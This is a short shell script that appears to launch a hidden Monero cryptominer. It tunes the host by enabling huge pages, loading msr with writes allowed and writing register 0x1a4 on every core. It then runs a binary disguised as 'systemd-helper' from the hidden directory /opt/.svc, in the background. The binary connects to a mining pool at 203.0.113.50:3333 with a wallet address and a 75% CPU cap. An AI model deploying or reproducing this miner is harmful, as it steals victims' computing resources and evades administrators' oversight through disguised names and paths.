#!/bin/sh
sysctl -w vm.nr_hugepages=1280
modprobe msr allow_writes=on
for c in $(seq 0 $(($(nproc)-1))); do wrmsr -p$c 0x1a4 0xf; done
cd /opt/.svc && ./systemd-helper -o 203.0.113.50:3333 -u 4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK -p x --cpu-max-threads-hint=75 --donate-level=1 -B
